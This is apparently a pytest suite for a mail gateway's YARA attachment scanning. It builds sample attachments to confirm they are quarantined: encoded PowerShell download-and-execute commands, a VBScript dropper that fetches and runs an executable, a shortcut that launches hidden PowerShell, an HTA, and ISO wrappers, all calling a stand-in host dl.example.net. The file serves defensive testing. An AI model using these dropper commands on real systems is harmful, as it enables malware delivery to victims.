"""The YARA check through `mailgate scan --json` with the shipped rules
(rules/yara): generated attachments (a shortcut starting PowerShell, an
encoded PowerShell command in .ps1 and .txt, a script dropper, an HTA, ISO
images holding an executable or a shortcut, the same inside a zip) each get
their YARA_* symbol and a forced quarantine; clean look-alikes get none.
An administrator's rule directory added through engine.yara.dirs, and a
broken rule file refusing the engine with FILE:LINE."""
import base64
import io
import json
import os
import struct
import subprocess
import zipfile

import pytest

import mg

SOURCE = os.environ.get("MG_SOURCE_DIR", os.path.join(os.path.dirname(__file__), "../.."))
SHIPPED = os.path.join(os.path.abspath(SOURCE), "rules/yara")
CONF_BASE = ('spool = "s";\nstore = "d/x.db";\n'
             'listeners = ( { address = "127.0.0.1:2525"; role = "inbound"; } );\n'
             'domains = ( { name = "example.test"; route = "127.0.0.1:2526"; } );\n')


def lnk(target, args):
    """A Windows shortcut (MS-SHLLINK): header, then the target and its
    arguments as UTF-16 strings (HasRelativePath | HasArguments)."""
    head = struct.pack("<I16sIIIQQQIIIIHH", 0x4C,
                       bytes.fromhex("0114020000000000c000000000000046"),
                       0x28 | 0x80, 0x20, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0)
    head += b"\0" * (0x4C - len(head))
    out = head
    for s in (target, args):
        out += struct.pack("<H", len(s)) + s.encode("utf-16-le")
    return out


def pe():
    """The first bytes of a PE file: MZ, e_lfanew, PE signature."""
    mz = bytearray(512)
    mz[0:2] = b"MZ"
    mz[0x3C:0x40] = struct.pack("<I", 0x80)
    mz[0x4E:0x76] = b"This program cannot be run in DOS mode.\r\n\0"[:0x28]
    mz[0x80:0x84] = b"PE\0\0"
    mz[0x84:0x86] = struct.pack("<H", 0x14C)
    return bytes(mz)


def iso(payload):
    """An ISO 9660 image: 16 empty sectors, a primary volume descriptor, a
    terminator, and payload at sector 20 (as a file's extent would be)."""
    sector = 2048
    pvd = bytearray(sector)
    pvd[0:7] = b"\x01CD001\x01"
    pvd[40:72] = b"IMAGE".ljust(32)
    term = bytearray(sector)
    term[0:7] = b"\xffCD001\x01"
    body = bytearray(16 * sector) + pvd + term + bytearray(2 * sector)
    body += payload + bytearray(-len(payload) % sector + sector)
    return bytes(body)


def zipped(name, data):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(name, data)
    return buf.getvalue()


PS_INNER = "IEX (New-Object Net.WebClient).DownloadString('http://dl.example.net/a.ps1')"
PS_ENC = ("powershell.exe -NoProfile -WindowStyle Hidden -enc "
          + base64.b64encode(PS_INNER.encode("utf-16-le")).decode() + "\r\n").encode()
PS_B64 = ("$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"
          + base64.b64encode(PS_INNER.encode("utf-16-le")).decode() + "'))\r\niex $c\r\n").encode()
VBS = (b'Set sh = CreateObject("WScript.Shell")\r\n'
       b'Set x = CreateObject("MSXML2.XMLHTTP")\r\n'
       b'x.Open "GET", "http://dl.example.net/p.exe", False\r\nx.Send\r\n'
       b'Set s = CreateObject("ADODB.Stream")\r\ns.Open\r\ns.Type = 1\r\n'
       b's.Write x.responseBody\r\ns.SaveToFile "p.exe", 2\r\nsh.Run "p.exe", 0\r\n')
HTA = (b'<html><head><title>Invoice</title>\r\n<HTA:APPLICATION ID="inv" '
       b'WINDOWSTATE="minimize" SHOWINTASKBAR="no">\r\n</head>\r\n'
       b'<script language="VBScript">window.close()</script></html>\r\n')
LNK_PS = lnk(r"..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
             "-nop -w hidden -c iwr http://dl.example.net/a")

# file name -> (bytes, the YARA symbols wanted)
MALICIOUS = {
    "invoice.lnk": (LNK_PS, {"YARA_LNK_LAUNCHES_INTERPRETER"}),
    "update.ps1": (PS_ENC, {"YARA_POWERSHELL_ENCODED_COMMAND"}),
    "readme.txt": (PS_ENC, {"YARA_POWERSHELL_ENCODED_COMMAND"}),
    "setup.ps1": (PS_B64, {"YARA_POWERSHELL_BASE64_INVOKE"}),
    "order.vbs": (VBS, {"YARA_WSH_DOWNLOAD_AND_RUN"}),
    "invoice.hta": (HTA, {"YARA_HTA_APPLICATION"}),
    "scan.iso": (iso(pe()), {"YARA_ISO_WITH_EXECUTABLE"}),
    "photos.img": (iso(LNK_PS), {"YARA_ISO_WITH_SHORTCUT"}),
    "docs.zip": (zipped("run.ps1", PS_ENC), {"YARA_POWERSHELL_ENCODED_COMMAND"}),
}
CLEAN = {
    "notes.txt": b"Use powershell -ExecutionPolicy Bypass -File build.ps1 to build.\r\n",
    "tidy.ps1": b"Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | Remove-Item\r\n",
    "hello.vbs": b'Set sh = CreateObject("WScript.Shell")\r\nsh.Popup "Hello"\r\n',
    "page.html": b"<html><body><p>Invoice attached as HTA and LNK are blocked.</p></body></html>\r\n",
    "shortcut.lnk": lnk(r"..\Documents\report.docx", ""),
    "data.iso": iso(b"just text, not a program\n" * 100),
    "archive.zip": zipped("notes.txt", b"minutes of the meeting\n"),
}


def message(n, filename, data):
    b64 = base64.encodebytes(data).decode().replace("\n", "\r\n")
    return ("From: Alice <alice@example.org>\r\nTo: bob@example.com\r\n"
            "Date: Tue, 24 Nov 2026 12:00:00 +0000\r\n"
            f"Message-ID: <yara{n}@example.org>\r\nSubject: the file\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
            "--b1\r\nContent-Type: text/plain\r\n\r\nPlease see the attached file.\r\n"
            "--b1\r\nContent-Type: application/octet-stream; name=\"" + filename + "\"\r\n"
            "Content-Disposition: attachment; filename=\"" + filename + "\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + b64 + "--b1--\r\n")


def write_conf(d, dirs, extra=""):
    (d / "s").mkdir(exist_ok=True)
    (d / "d").mkdir(exist_ok=True)
    path = d / "yara.conf"
    listed = ", ".join(f'"{x}"' for x in dirs)
    path.write_text(CONF_BASE + "engine = { network = false; yara = { dirs = [ "
                    + listed + " ]; }; " + extra + "};\n")
    return str(path)


def scan(conf, mails):
    proc = subprocess.run([mg.MAILGATE, "-c", conf, "scan", "--json", str(mails)],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    return {os.path.basename(o["file"])[:-4]: o for o in map(json.loads, proc.stdout.splitlines())}


@pytest.fixture(scope="module")
def scanned(tmp_path_factory):
    work = tmp_path_factory.mktemp("yara")
    mails = work / "mails"
    mails.mkdir()
    files = {**{k: v[0] for k, v in MALICIOUS.items()}, **CLEAN}
    for n, (name, data) in enumerate(files.items()):
        with open(mails / (name + ".eml"), "w", newline="") as f:
            f.write(message(n, name, data))
    return scan(write_conf(work, [SHIPPED]), mails)


def yara_symbols(obj):
    return {s["name"]: s for s in obj["symbols"] if s["name"].startswith("YARA_")}


def test_malicious_files_fire(scanned):
    bad = []
    for name, (_, want) in MALICIOUS.items():
        got = set(yara_symbols(scanned[name]))
        if got != want:
            bad.append(f"{name}: got {sorted(got)}, want {sorted(want)}")
        elif scanned[name]["action"] != "quarantine" or scanned[name]["category"] != "dangerous":
            bad.append(f"{name}: {scanned[name]['category']}/{scanned[name]['action']}")
    assert not bad, "\n".join(bad)


def test_option_names_the_file(scanned):
    sym = yara_symbols(scanned["docs.zip"])["YARA_POWERSHELL_ENCODED_COMMAND"]
    assert sym["options"] == ["docs.zip/run.ps1"], sym
    sym = yara_symbols(scanned["invoice.hta"])["YARA_HTA_APPLICATION"]
    assert sym["options"] == ["invoice.hta"], sym


def test_clean_files_do_not(scanned):
    bad = {name: sorted(yara_symbols(scanned[name])) for name in CLEAN
           if yara_symbols(scanned[name])}
    assert not bad, bad


def test_real_iso_members(tmp_path):
    """An image made by xorriso: the rule on the image, and the shortcut
    member (listed by the MIME layer) scanned as a file of its own."""
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "invoice.lnk").write_bytes(LNK_PS)
    (tree / "setup.exe").write_bytes(pe())
    img = tmp_path / "x.iso"
    subprocess.run(["xorriso", "-as", "mkisofs", "-quiet", "-o", str(img), str(tree)],
                   check=True, capture_output=True, timeout=60)
    mails = tmp_path / "mails"
    mails.mkdir()
    with open(mails / "real.iso.eml", "w", newline="") as f:
        f.write(message(0, "real.iso", img.read_bytes()))
    sym = yara_symbols(scan(write_conf(tmp_path, [SHIPPED]), mails)["real.iso"])
    assert set(sym) == {"YARA_ISO_WITH_EXECUTABLE", "YARA_ISO_WITH_SHORTCUT",
                        "YARA_LNK_LAUNCHES_INTERPRETER"}, sym
    assert sym["YARA_LNK_LAUNCHES_INTERPRETER"]["options"] == ["real.iso/invoice.lnk"]


def test_administrator_rules(tmp_path):
    admin = tmp_path / "local-yara"
    admin.mkdir()
    (admin / "acme.yar").write_text(
        'rule acme_fake_invoice : phishing\n{\n  meta:\n    score = 4\n'
        '    description = "ACME invoice lure"\n  strings:\n    $a = "ACME-INV-" ascii\n'
        '  condition:\n    $a\n}\n')
    mails = tmp_path / "mails"
    mails.mkdir()
    for n, (name, data) in enumerate({"inv.txt": b"ref ACME-INV-2291, pay now\n",
                                      "update.ps1": PS_ENC}.items()):
        with open(mails / (name + ".eml"), "w", newline="") as f:
            f.write(message(n, name, data))
    res = scan(write_conf(tmp_path, [SHIPPED, str(admin)]), mails)
    sym = yara_symbols(res["inv.txt"])
    assert list(sym) == ["YARA_ACME_FAKE_INVOICE"], sym
    assert sym["YARA_ACME_FAKE_INVOICE"]["score"] == 4.0
    assert res["inv.txt"]["action"] == "accept"     # phishing: scored, not forced
    assert "YARA_POWERSHELL_ENCODED_COMMAND" in yara_symbols(res["update.ps1"])
    # engine.scores overrides a rule's meta like any symbol's default
    res = scan(write_conf(tmp_path, [SHIPPED, str(admin)],
                          "scores = { YARA_ACME_FAKE_INVOICE = { score = 12.0; "
                          "force = \"reject\"; }; }; "), mails)
    assert yara_symbols(res["inv.txt"])["YARA_ACME_FAKE_INVOICE"]["score"] == 12.0
    assert res["inv.txt"]["action"] == "reject", res["inv.txt"]

    (admin / "broken.yar").write_text('rule broken\n{\n  condition:\n    $x\n}\n')
    conf = write_conf(tmp_path, [SHIPPED, str(admin)])
    proc = subprocess.run([mg.MAILGATE, "-c", conf, "scan", "--json", str(mails)],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode != 0
    assert f"{admin}/broken.yar:5: undefined string \"$x\"" in proc.stderr, proc.stderr
